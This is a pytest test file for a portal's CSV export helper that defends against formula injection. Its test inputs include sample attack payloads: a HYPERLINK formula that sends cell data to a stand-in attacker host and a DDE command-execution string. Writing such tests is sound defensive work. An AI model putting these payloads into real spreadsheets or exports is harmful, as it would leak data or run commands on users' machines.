"""CSV exports cannot smuggle a formula into a staff member's spreadsheet (OWASP CSV injection)."""

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from smt_portal.csv_export import csv_cell, csv_lines

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("text", [
    "=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
    "\t=1+1", "\r=1+1", "\uff1d1+1",
])  # fmt: skip
def test_text_beginning_with_a_formula_character_is_read_as_text(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [
    "Mozilla/5.0", "", "a=b", "ops@example.com", "1+1", " =1", 42, -3, Decimal("-1.5"),
    date(2026, 11, 23), None,
])  # fmt: skip
def test_ordinary_text_numbers_and_dates_are_written_as_they_are(value):
    assert csv_cell(value) == value


def test_every_cell_of_every_line_is_neutralised_header_included():
    text = "".join(csv_lines(["id", "=header"], [[1, "=cmd"], [-2, 'say "hi", =no']]))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["id", "'=header"], ["1", "'=cmd"], ["-2", 'say "hi", =no']]


def test_no_code_writes_csv_except_through_the_helper():
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for path in ROOT.rglob("*.py")
        if not {".venv", "tests", "node_modules"} & set(path.relative_to(ROOT).parts)
        and path.relative_to(ROOT).as_posix() != "smt_portal/csv_export.py"
        and writers.search(path.read_text(encoding="utf-8", errors="replace"))
    ]
    assert offenders == [], "write CSV with smt_portal.csv_export.csv_lines"
